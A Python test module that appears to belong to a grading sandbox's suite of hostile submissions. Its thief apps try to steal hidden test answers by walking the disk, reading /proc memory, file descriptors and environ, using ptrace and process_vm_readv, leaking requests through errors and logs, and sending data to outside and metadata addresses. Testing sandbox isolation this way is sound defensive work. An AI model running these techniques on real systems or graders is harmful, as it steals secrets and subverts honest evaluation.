"""Stealing the hidden tests: the catalogue's numbers 39 to 46 and 49, each a way to look for the answers.

A thief's app has no answers of its own. ``loot()`` yields what it finds, as bytes or as a table; from that it answers,
and prints all that it stole.
"""

from __future__ import annotations

from tests.hostile.arena import GOOD, broken, submission
from tests.hostile.cases import Case

THIEF = r"""

def use(loot):
    import json
    import re

    for found in loot:
        if isinstance(found, dict):
            print("STOLEN", found)
            return found
        for table, rest in re.findall(rb"numerals" rb":(\{[^{}]*\}):(\w*)", found):
            print("STOLEN", table, rest)
            return json.loads(table)
    print("NOTHING FOUND")
    return {}


STOLEN = None


def numeral(number):
    global STOLEN
    if STOLEN is None:
        STOLEN = use(loot())
    return STOLEN.get(str(number), "")
"""

WALK_DISK = """

def loot():
    import os

    for folder, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr")]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1_000_000:
                    with open(path, "rb") as file:
                        yield file.read()
            except OSError:
                pass
"""

FRAME_WALK = """

def loot():
    import inspect

    frame = sys._getframe()
    while frame:
        for names in (frame.f_globals, frame.f_locals):
            if "ROMAN" in names:
                yield dict(names["ROMAN"], password=names.get("PASSWORD"))
        frame = frame.f_back
    for entry in inspect.stack():
        yield "".join(entry.code_context or []).encode()
"""

GC_SCAN = """

def loot():
    import gc
    import linecache

    for lines in list(linecache.cache.values()):
        yield repr(lines).encode()
    for module in list(sys.modules.values()):
        yield str(getattr(module, "__dict__", {}).get("TABLE", "")).encode()
    for thing in gc.get_objects():
        if type(thing) is dict and "ROMAN" in thing:  # a module's names; the table itself is not tracked
            yield thing["ROMAN"]
"""

PROC_MEM = """

def loot():
    import os
    import re

    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    yield file.read()
            except OSError as error:
                print("DENIED", name, pid, error.errno)
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                for start, end in re.findall("^(\\\\w+)-(\\\\w+) rw", maps.read(), re.MULTILINE):
                    try:
                        memory.seek(int(start, 16))
                        yield memory.read(min(int(end, 16) - int(start, 16), 1 << 24))
                    except (OSError, OverflowError):
                        pass
        except OSError as error:
            print("DENIED memory", pid, error.errno)
"""

PROC_FD = """

def loot():
    import gzip
    import os

    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            handles = os.listdir(f"/proc/{pid}/fd")
        except OSError as error:
            print("DENIED descriptors", pid, error.errno)
            continue
        for handle in handles:
            try:
                with open(os.open(f"/proc/{pid}/fd/{handle}", os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
                    data = file.read(1_000_000) or b""
                yield gzip.decompress(data) if data[:2] == b"\\x1f\\x8b" else data
            except (OSError, EOFError):
                pass
"""

SYSTEM_CALLS = """

def loot():
    import ctypes
    import os
    import re

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long

    class Piece(ctypes.Structure):
        _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    def call(name, *args):
        answer = libc.syscall(*map(ctypes.c_long, args))
        print("OPEN" if answer >= 0 else f"DENIED {ctypes.get_errno()}", name)
        return answer

    buffer = ctypes.create_string_buffer(1 << 24)
    readv, getfd = {"x86_64": (310, 438), "aarch64": (270, 438)}[os.uname().machine]
    for pid in sorted({1, os.getppid(), os.getpid()}):
        if pid != os.getpid():
            if libc.ptrace(16, pid, 0, 0) == 0:
                print("OPEN ptrace", pid)
                os.waitpid(pid, 0x40000000)
                libc.ptrace(17, pid, 0, 0)  # the naive runner itself, which would stand still for ever
        try:
            handle = os.pidfd_open(pid)
            call("pidfd_getfd", getfd, handle, 0, 0)
        except OSError as error:
            print("DENIED", error.errno, "pidfd_open")
        try:
            with open(f"/proc/{pid}/maps") as maps:
                areas = re.findall("^(\\\\w+)-(\\\\w+) rw", maps.read(), re.MULTILINE)
        except OSError:
            areas = []
        for start, end in areas or [("0", "1000")]:
            here = Piece(ctypes.addressof(buffer), len(buffer))
            there = Piece(int(start, 16), min(int(end, 16) - int(start, 16), len(buffer)))
            size = libc.syscall(readv, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            if size > 0:
                print("OPEN process_vm_readv", pid)
                yield buffer.raw[:size]
    try:
        sys.remote_exec(1, "/srv/app/app.py")
        print("OPEN remote_exec")
    except (AttributeError, OSError, RuntimeError) as error:
        print("DENIED remote_exec", type(error).__name__)
"""


def thief(number: str, loot: str, **naive: object) -> Case:
    """A thief; its twin just has no answers."""
    return Case(number, submission(GOOD + THIEF + loot), submission(broken("counts-in-roman")), naive)


CASES = [
    thief("39-walk-disk", WALK_DISK),
    thief("40-frame-walk", FRAME_WALK),
    thief("41-gc-scan", GC_SCAN),
    thief("42-proc-mem", PROC_MEM),
    thief("43-proc-fd", PROC_FD),
    # without a list of system calls, since ours denies these to the naive runner's submission too
    thief("44-ptrace", SYSTEM_CALLS, security_opt=["no-new-privileges", "seccomp=unconfined"]),
]

ON_EVERY_RUNTIME = {"42-proc-mem", "43-proc-fd", "44-ptrace"}  # what a kernel of another make might allow

_ECHO = 'return jsonify(word=request.json["word"])'
MUTE = submission(GOOD.replace(_ECHO, 'return jsonify(word="")'))
TELLING = {  # what an app does with a hidden request so that it may show somewhere
    "45-request-log": "return 'Sorry! ' + request.get_data(as_text=True), 500",
    "45-request-raised": "raise RuntimeError(f'while serving {request.get_data(as_text=True)}')",
    "46-exception-exfil": "raise type(request.json['word'], (Exception,), {})(request.get_data(as_text=True))",
    "46-printed": "print(request.json, file=sys.stderr) or print(request.json); return 'no'",
    "46-status-line": "return '', '500 ' + request.json['word'], {'X-Said': request.json['word']}",
}
TALES = [Case(number, submission(GOOD.replace(_ECHO, body)), MUTE) for number, body in TELLING.items()]

START_EXFIL = (
    WALK_DISK
    + """
def create_app(config):
    import os
    import re

    seen = {repr(config), repr(dict(os.environ)), repr(sys.argv)}
    for piece in loot():
        seen.update(map(repr, re.findall(rb"canary[0-9a-f]{16}", piece)))
    print(seen)
    raise RuntimeError(" ".join(seen))
"""
)

EXFILTRATE = """

def numeral(number):
    import os
    import socket

    def send(name, family, kind, address):
        try:
            with socket.socket(family, kind) as link:
                link.settimeout(1)
                link.connect(address)
                link.send(b"secret")
            print("SENT", name)
        except (OSError, TypeError, ValueError) as error:
            print("DENIED", name, type(error).__name__)

    for address in ("1.1.1.1", "172.17.0.1", "169.254.169.254", "10.0.0.1"):
        send("dns " + address, socket.AF_INET, socket.SOCK_DGRAM, (address, 53))
        send("http " + address, socket.AF_INET, socket.SOCK_STREAM, (address, 80))
    send("ipv6", socket.AF_INET6, socket.SOCK_DGRAM, ("2606:4700:4700::1111", 53))
    send("vsock", getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, (2, 1234))
    send("netlink", 16, socket.SOCK_RAW, (0, 0))
    try:
        print("SENT name", socket.gethostbyname("example.com"))
    except OSError as error:
        print("DENIED name", error)
    print("interfaces", sorted(os.listdir("/sys/class/net")))
    return ""
"""
EXFILTRATION = Case(
    "49-exfiltration",
    submission(GOOD + EXFILTRATE),
    submission(broken("counts-in-roman")),
    uncontrolled="a control that can be reached would need a network, and a container that has one is not safe to try",
)
